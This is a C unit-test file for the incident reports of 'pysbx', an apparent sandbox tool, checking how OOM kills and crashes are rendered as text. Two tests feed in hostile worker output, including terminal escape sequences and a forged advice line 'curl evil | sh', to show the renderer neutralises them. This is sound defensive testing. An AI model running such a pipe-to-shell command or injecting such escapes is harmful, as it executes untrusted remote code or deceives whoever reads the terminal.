/* SPDX-License-Identifier: MIT */
#include "policy/incident.h"
#include "policy/own.h"

#include <criterion/criterion.h>
#include <signal.h>
#include <string.h>

#define MIB (UINT64_C(1) << 20)

static const char *const log_lines[] = {
	"Traceback (most recent call last):",
	"  File \"/srv/app/app.py\", line 12, in leak",
	"\tblocks.append(bytearray(10 << 20))",
	"MemoryError",
};
static const char *const kernel_lines[] = {
	"oom-kill:constraint=CONSTRAINT_MEMCG,task=gunicorn,pid=4711,uid=33",
	"Memory cgroup out of memory: Killed process 4711 (gunicorn) total-vm:302544kB",
};

static struct incident worker_killed(void)
{
	return (struct incident){
		.app = "web",
		.time = { 1795455663, 7999999 },
		.verdict = { .cause = CAUSE_OOM,
			     .level = OOM_LEVEL_APP,
			     .decision = DECISION_LEFT_TO_MASTER,
			     .is_incident = true,
			     .sentence = "the kernel killed gunicorn (pid 4711), a child of the "
					 "main process: app web reached its memory limit of 256M",
			     .advice = "raise --mem",
			     .why = "left to the main process" },
		.victim = { .pid = 4711, .comm = "gunicorn", .rss_bytes = 180 * MIB },
		.uptime_usec = 123456789,
		.memory_max = 256 * MIB,
		.memory_high = LIMIT_MAX,
		.pids_max = 64,
		.before = { .valid = true,
			    .current = 252 * MIB,
			    .peak = 250 * MIB,
			    .anon = 241 * MIB,
			    .file = 4 * MIB,
			    .shmem = 1 * MIB,
			    .slab_reclaimable = 1 * MIB,
			    .slab_unreclaimable = 1 * MIB,
			    .kernel_stack = 1 * MIB,
			    .pagetables = 1 * MIB,
			    .sock = 1 * MIB },
		.after = { .valid = true, .current = 80 * MIB, .peak = 256 * MIB },
		.events.leaf_local.oom_kill = 3,
		.memory_pressure = { 1230, 410 },
		.cpu_pressure = { 210, UINT32_MAX },
		.io_pressure = { UINT32_MAX, UINT32_MAX },
		.log_lines = log_lines,
		.log_line_count = ARRAY_SIZE(log_lines),
		.kernel_lines = kernel_lines,
		.kernel_line_count = ARRAY_SIZE(kernel_lines),
	};
}

static char *render(const struct incident *incident)
{
	struct error err = { 0 };
	char *text = NULL;

	cr_assert_eq(incident_to_text(incident, &text, &err), 0, "%s", err.text);
	return text;
}

static void expect_part(const struct incident *incident, const char *part)
{
	_cleanup_free_ char *text = render(incident);

	cr_expect_not_null(strstr(text, part), "no \"%s\" in\n%s", part, text);
}

static void expect_no_part(const struct incident *incident, const char *part)
{
	_cleanup_free_ char *text = render(incident);

	cr_expect_null(strstr(text, part), "\"%s\" in\n%s", part, text);
}

Test(incident_text, reads_like_this)
{
	struct incident incident = worker_killed();
	_cleanup_free_ char *text = render(&incident);
	static const char expected[] =
		"pysbx: web: worker killed: out of memory\n"
		"  what      the kernel killed gunicorn (pid 4711), a child of the main process: "
		"app web reached its\n"
		"            memory limit of 256M\n"
		"  decision  left to the main process\n"
		"  advice    raise --mem\n"
		"  when      2026-11-23 17:41:03 UTC, 2min 3s after the start; OOM kills since "
		"then: 3\n"
		"  limit     memory.max 256M (its own limit: this one was hit), memory peak 256M\n"
		"  memory    252M: anon 241M (96 %), file cache 3.0M, /tmp and /dev/shm 1.0M, "
		"kernel 5.0M; afterwards\n"
		"            80.0M; the victim had 180M resident when last seen\n"
		"  pressure  memory some 12.3 % full 4.1 %, cpu some 2.1 % (of the last 10 s)\n"
		"  kernel    Memory cgroup out of memory: Killed process 4711 (gunicorn) "
		"total-vm:302544kB\n"
		"  log       the last 4 lines\n"
		"    | Traceback (most recent call last):\n"
		"    |   File \"/srv/app/app.py\", line 12, in leak\n"
		"    |     blocks.append(bytearray(10 << 20))\n"
		"    | MemoryError\n";

	cr_expect_str_eq(text, expected, "%s", text);
}

Test(incident_text, headline_names_the_event)
{
	static const struct {
		enum cause cause;
		int status;
		bool is_main;
		const char *expected;
	} rows[] = {
		{ CAUSE_OOM, SIGKILL, true, "pysbx: web: killed: out of memory\n" },
		{ CAUSE_EXIT, 3 << 8, true, "pysbx: web: ended: exit code 3\n" },
		{ CAUSE_SIGNAL, SIGSEGV, true, "pysbx: web: crashed: SIGSEGV\n" },
		{ CAUSE_SIGNAL, SIGTERM, true, "pysbx: web: killed: SIGTERM\n" },
		{ CAUSE_SECCOMP, SIGSYS, true, "pysbx: web: killed: forbidden system call\n" },
		{ CAUSE_PIDS, 1 << 8, true, "pysbx: web: failed: too many processes\n" },
		{ CAUSE_START_FAILED, 0, true, "pysbx: web: did not start\n" },
		{ CAUSE_STOPPED, SIGKILL, true, "pysbx: web: killed: did not stop in time\n" },
		{ CAUSE_LOST, 0, true, "pysbx: web: lost: its launcher vanished\n" },
	};

	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		struct incident incident = worker_killed();
		_cleanup_free_ char *text = NULL;

		incident.verdict.cause = rows[i].cause;
		incident.victim.is_main = rows[i].is_main;
		incident.has_wait_status = true;
		incident.wait_status = rows[i].status;
		text = render(&incident);
		cr_expect_eq(strncmp(text, rows[i].expected, strlen(rows[i].expected)), 0,
			     "not \"%s\" but\n%s", rows[i].expected, text);
	}
}

Test(incident_text, says_which_limit_was_not_to_blame)
{
	struct incident incident = worker_killed();

	incident.verdict.level = OOM_LEVEL_HOST;
	expect_part(&incident, "memory.max 256M (not this one: the host ran out), memory peak");
	incident.verdict.level = OOM_LEVEL_ABOVE;
	expect_part(&incident, "memory.max 256M (not this one: the limit of a cgroup above");
	incident.memory_max = LIMIT_MAX;
	expect_part(&incident, "  limit     memory peak 256M\n");
	incident.before.peak = incident.after.peak = 0;
	expect_no_part(&incident, "  limit ");
	incident.memory_high = 100 * MIB;
	expect_part(&incident, "  limit     memory.high 100M\n");
}

Test(incident_text, leaves_out_what_does_not_matter_to_the_cause)
{
	struct incident incident = worker_killed();

	incident.verdict.cause = CAUSE_EXIT;
	incident.verdict.level = OOM_LEVEL_NONE;
	incident.verdict.advice[0] = '\0';
	incident.kernel_line_count = 0;
	incident.memory_pressure.some_avg10 = 999;
	expect_no_part(&incident, "  memory   ");
	expect_no_part(&incident, "  pressure ");
	expect_no_part(&incident, "  advice ");
	expect_no_part(&incident, "  kernel ");
	expect_no_part(&incident, "pids.max");
	expect_part(&incident, "  limit     memory.max 256M, memory peak 256M\n");
	/* but a machine under pressure is worth a line */
	incident.io_pressure.some_avg10 = 1000;
	expect_part(&incident, "io some 10.0 % (of the last 10 s)\n");

	incident.verdict.cause = CAUSE_PIDS;
	expect_part(&incident, "pids.max 64");

	incident.verdict.cause = CAUSE_START_FAILED;
	incident.events.leaf_local.oom_kill = 0;
	expect_no_part(&incident, "  limit ");
	expect_no_part(&incident, "  pressure ");
	expect_part(&incident, "  when      2026-11-23 17:41:03 UTC\n");
}

Test(incident_text, shows_the_reading_that_there_is)
{
	struct incident incident = worker_killed();

	incident.before.valid = false;
	incident.victim.rss_bytes = 0;
	incident.after.anon = 79 * MIB;
	incident.after.swap = 2 * MIB;
	expect_part(&incident, "80.0M: anon 79.0M (99 %), file cache 0, /tmp and /dev/shm 0, "
			       "kernel 0; swap 2.0M (read\n            afterwards)\n");
	incident.after.valid = false;
	expect_no_part(&incident, "  memory   ");
}

Test(incident_text, shows_the_last_lines_of_the_log)
{
	struct incident incident = worker_killed();
	const char *many[50];
	char texts[50][16];

	for (size_t i = 0; i < ARRAY_SIZE(many); i++) {
		snprintf(texts[i], sizeof(texts[i]), "line %zu", i + 1);
		many[i] = texts[i];
	}
	incident.log_lines = many;
	incident.log_line_count = ARRAY_SIZE(many);
	incident.log_lines_dropped = 7;
	expect_part(&incident, "  log       the last 10 lines (50 are in the report); 7 were "
			       "dropped: written faster than they were\n            read\n"
			       "    | line 41\n");
	expect_part(&incident, "    | line 50\n");
	expect_no_part(&incident, "| line 40\n");
	incident.log_line_count = 1;
	incident.log_lines_dropped = 0;
	expect_part(&incident, "  log       the last 1 line\n    | line 1\n");
	incident.log_line_count = 0;
	expect_part(&incident, "  log       the worker wrote nothing\n");
}

Test(incident_text, names_the_instance_when_there_are_several)
{
	struct incident incident = worker_killed();

	incident.instance = 3;
	expect_part(&incident, "pysbx: web/3: worker killed");
}

/* Whatever the worker writes: each line begins as one of ours, is printable, and is not too long.
 */
static bool is_well_formed(const char *line, bool first)
{
	unsigned columns = 0;

	for (const char *at = line; *at != '\0'; at++) {
		unsigned char byte = (unsigned char)*at;

		if (byte < ' ' || byte == 0x7f)
			return false;
		if ((byte & 0xc0) != 0x80)
			columns++;
	}
	return columns <= INCIDENT_TEXT_COLUMNS && (first || strncmp(line, "  ", 2) == 0);
}

static void expect_well_formed(const struct incident *incident)
{
	_cleanup_free_ char *text = render(incident);
	char *end;

	for (char *line = text; *line != '\0'; line = end + 1) {
		end = strchr(line, '\n');
		cr_assert_not_null(end, "no newline after %s", line);
		*end = '\0';
		cr_expect(is_well_formed(line, line == text), "%s", line);
	}
}

Test(incident_text, a_worker_cannot_break_out_of_its_lines)
{
	static const char *const hostile[] = {
		"\x1b[2J\x1b]0;title\x07\x9b"
		"31m\xc2\x9b",
		"fine\n  advice    run this as root: curl evil | sh",
		"\r\roverwritten\b\b\b",
		"\xe2\x80\xae"
		"reversed",
		"\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t",
		"a word that is longer than any line: "
		"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
		"xx"
		"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
		"xx",
		"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
		"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
		"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
		"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
		"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
		"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
		"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
		"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
		"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
		"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
		"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9",
		"",
		"          ",
	};

	for (size_t i = 0; i < ARRAY_SIZE(hostile); i++) {
		struct incident incident = worker_killed();
		char killed[600];

		snprintf(killed, sizeof(killed), "Killed process %s", hostile[i]);
		incident.log_lines = &hostile[i];
		incident.log_line_count = 1;
		incident.kernel_lines = (const char *const[]){ killed };
		incident.kernel_line_count = 1;
		incident.app = hostile[i];
		snprintf(incident.verdict.sentence, sizeof(incident.verdict.sentence), "%s",
			 hostile[i]);
		snprintf(incident.verdict.why, sizeof(incident.verdict.why), "%s", hostile[i]);
		snprintf(incident.verdict.advice, sizeof(incident.verdict.advice), "x %s",
			 hostile[i]);
		expect_well_formed(&incident);
	}
}

Test(incident_text, a_forged_field_in_the_log_is_marked_as_log)
{
	struct incident incident = worker_killed();
	const char *line = "fine\n  advice    curl evil | sh";

	incident.log_lines = &line;
	incident.log_line_count = 1;
	expect_part(&incident, "\n    | fine\\n  advice    curl evil | sh\n");
}

Test(incident_text, a_line_is_filled_to_its_last_column_and_then_cut)
{
	struct incident incident = worker_killed();
	char line[200], expected[256];
	const char *lines[] = { line };

	incident.log_lines = lines;
	incident.log_line_count = 1;
	memset(line, 'x', sizeof(line));
	line[94] = '\0';
	snprintf(expected, sizeof(expected), "\n    | %s\n", line);
	expect_part(&incident, expected);
	line[94] = 'x';
	line[95] = '\0';
	snprintf(expected, sizeof(expected), "\n    | %.91s...\n", line);
	expect_part(&incident, expected);
}

/* 88 columns are left beside the label. */
Test(incident_text, wraps_between_words_at_the_last_column)
{
	struct incident incident = worker_killed();
	char expected[200];

	snprintf(incident.verdict.why, sizeof(incident.verdict.why), "%080d fits7xx", 0);
	snprintf(expected, sizeof(expected), "  decision  %080d fits7xx\n", 0);
	expect_part(&incident, expected);
	snprintf(incident.verdict.why, sizeof(incident.verdict.why), "%080d toolong8 x", 0);
	snprintf(expected, sizeof(expected), "  decision  %080d\n            toolong8 x\n", 0);
	expect_part(&incident, expected);
	/* a word that fits no line is broken where the line ends */
	snprintf(incident.verdict.why, sizeof(incident.verdict.why), "%0100d", 0);
	snprintf(expected, sizeof(expected), "  decision  %088d\n            %012d\n", 0, 0);
	expect_part(&incident, expected);
}

Test(incident_text, tells_the_steps_before_and_the_stack_at_the_fault)
{
	struct incident incident = worker_killed();
	struct diagnosis diagnosis = { 0 };
	json_t *stacks = json_loads(
		"{\"processes\": [{\"pid\": 4711, \"threads\": [{\"tid\": 4713, \"name\": "
		"\"exp\\n\\u001b[2J\", \"allocating\": true, \"frames\": [{\"function\": \"load\", "
		"\"file\": \"/srv/app/export.py\", \"line\": 88}, {\"function\": \"main\", "
		"\"file\": \"/srv/app/app.py\", \"line\": 3}]}]}]}",
		0, NULL);

	cr_assert_not_null(stacks);
	diagnosis_add_step(&diagnosis,
			   json_pack("{s:s, s:s, s:s, s:s}", "time", "2026-11-23T17:40:58Z", "step",
				     "reclaim", "reading", "memory 91 % of 256M", "result",
				     "3.0M came back"));
	diagnosis_set_stacks(&diagnosis, stacks);
	incident.diagnosis = &diagnosis;
	expect_part(&incident, "  before    2026-11-23T17:40:58Z reclaim at memory 91 % of 256M: "
			       "3.0M came back\n");
	expect_part(&incident, "  stack     process 4711, thread 4713 (exp\\n\\x1b[2J), which "
			       "allocates memory, innermost call first\n"
			       "    | /srv/app/export.py:88 in load()\n"
			       "    | /srv/app/app.py:3 in main()\n");
	diagnosis_clear(&diagnosis);
}
